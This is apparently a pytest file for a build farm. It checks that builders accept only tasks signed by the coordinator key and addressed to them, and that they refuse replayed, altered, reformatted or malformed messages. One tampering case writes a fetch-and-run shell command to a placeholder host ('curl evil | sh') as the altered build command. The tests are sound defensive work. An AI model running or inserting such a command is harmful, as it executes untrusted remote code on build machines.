"""Signed build tasks (ADR 41): what a builder runs, and what it refuses.

A task is the coordinator's DSSE envelope over the task's canonical JSON. A builder
runs it only if the signature is by the one coordinator key it trusts, over the bytes
as received, and the task names that builder. Table-driven over the ways a message on
a builder's queue can be wrong.
"""

from __future__ import annotations

import base64
import copy
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from farm.errors import SigningKeyError, TaskRefusedError
from farm.keys import generate_key, load_public_key, save_key
from farm.recipe import parse_recipe
from farm.result import PAYLOAD_TYPE
from farm.task import (
    TASK_PAYLOAD_TYPE,
    BuildTask,
    claimed_ids,
    sign_task,
    verify_task,
)
from tests.unit.farm.conftest import BASE_RECIPE

COORDINATOR, OTHER = generate_key(), generate_key()
BUILDER_A, BUILDER_B = generate_key(), generate_key()


def task_for(builder: str, build_id: str = "build-0001") -> BuildTask:
    return BuildTask.create(parse_recipe(BASE_RECIPE, "demo"), "amd64", builder, build_id)


def _alter(message: dict[str, Any], change: Callable[[dict[str, Any]], None]) -> dict[str, Any]:
    """The message with its signed payload decoded, changed by ``change`` and encoded again."""
    out = copy.deepcopy(message)
    value = json.loads(base64.b64decode(out["envelope"]["payload"]))
    change(value)
    out["envelope"]["payload"] = base64.b64encode(json.dumps(value).encode()).decode()
    return out


def _set(key: str, value: object) -> Callable[[dict[str, Any]], None]:
    return lambda v: v.__setitem__(key, value)


def _reformat(message: dict[str, Any]) -> dict[str, Any]:
    """Same JSON value, other bytes (spaces): still not the bytes the coordinator signed."""
    out = copy.deepcopy(message)
    value = json.loads(base64.b64decode(out["envelope"]["payload"]))
    out["envelope"]["payload"] = base64.b64encode(json.dumps(value, indent=1).encode()).decode()
    return out


def _retype(message: dict[str, Any]) -> dict[str, Any]:
    out = copy.deepcopy(message)
    out["envelope"]["payloadType"] = PAYLOAD_TYPE
    return out


SIGNED_A = sign_task(task_for(BUILDER_A.keyid), COORDINATOR)
REFUSED: list[tuple[str, object, str]] = [
    ("unsigned, as tasks were sent before", task_for(BUILDER_A.keyid).model_dump(mode="json"),
     "not signed"),
    ("not a message", "build everything", "not signed"),
    ("an envelope with no signature", {"envelope": {**SIGNED_A["envelope"], "signatures": []}},
     "not signed by coordinator key"),
    ("signed by another key", sign_task(task_for(BUILDER_A.keyid), OTHER),
     "not signed by coordinator key"),
    ("builder B's task replayed onto A's queue", sign_task(task_for(BUILDER_B.keyid), COORDINATOR),
     "addressed to builder"),
    ("recipe digest altered", _alter(SIGNED_A, _set("recipe_digest", "sha256:" + "0" * 64)),
     "not signed by coordinator key"),
    ("readdressed to A after signing for B",
     _alter(sign_task(task_for(BUILDER_B.keyid), COORDINATOR), _set("builder_id", BUILDER_A.keyid)),
     "not signed by coordinator key"),
    ("build command altered",
     _alter(SIGNED_A, lambda v: v["recipe"]["build"].__setitem__("command", "curl evil | sh")),
     "not signed by coordinator key"),
    ("the same task re-serialized", _reformat(SIGNED_A), "not signed by coordinator key"),
    ("another payload type", _retype(SIGNED_A), "payload type"),
    ("a malformed envelope", {"envelope": {"payload": "%%%", "payloadType": TASK_PAYLOAD_TYPE}},
     "malformed"),
]  # fmt: skip


def test_a_task_signed_by_the_coordinator_for_this_builder_is_run() -> None:
    task = task_for(BUILDER_A.keyid)
    message = sign_task(task, COORDINATOR)
    assert message["envelope"]["payloadType"] == TASK_PAYLOAD_TYPE
    assert verify_task(message, COORDINATOR.public, BUILDER_A.keyid) == task
    # The message crosses the broker as JSON: what it decodes to still verifies.
    assert verify_task(json.loads(json.dumps(message)), COORDINATOR.public, BUILDER_A.keyid) == task


@pytest.mark.parametrize(("message", "why"), [(m, w) for _, m, w in REFUSED],
                         ids=[name for name, _, _ in REFUSED])  # fmt: skip
def test_any_other_message_is_refused(message: object, why: str) -> None:
    with pytest.raises(TaskRefusedError, match=why):
        verify_task(message, COORDINATOR.public, BUILDER_A.keyid)


def test_a_refused_message_says_which_build_and_builder_it_claims() -> None:
    replayed = sign_task(task_for(BUILDER_B.keyid, "build-replayed"), COORDINATOR)
    assert claimed_ids(replayed) == ("build-replayed", BUILDER_B.keyid[:12])
    assert claimed_ids(task_for(BUILDER_A.keyid).model_dump(mode="json"))[0] == "build-0001"
    assert claimed_ids("junk") == ("?", "?")


def test_the_trusted_key_is_read_from_its_public_file(tmp_path: Path) -> None:
    pub = tmp_path / "coordinator.pub"
    pub.write_text(json.dumps(COORDINATOR.public_dict()))
    assert load_public_key(pub).keyid == COORDINATOR.keyid
    private = tmp_path / "coordinator.key"
    save_key(COORDINATOR, private)
    assert load_public_key(private).keyid == COORDINATOR.keyid
    forged = {**COORDINATOR.public_dict(), "keyid": OTHER.keyid}
    pub.write_text(json.dumps(forged))
    with pytest.raises(SigningKeyError, match="does not match"):
        load_public_key(pub)
    with pytest.raises(SigningKeyError, match="cannot read"):
        load_public_key(tmp_path / "missing.pub")
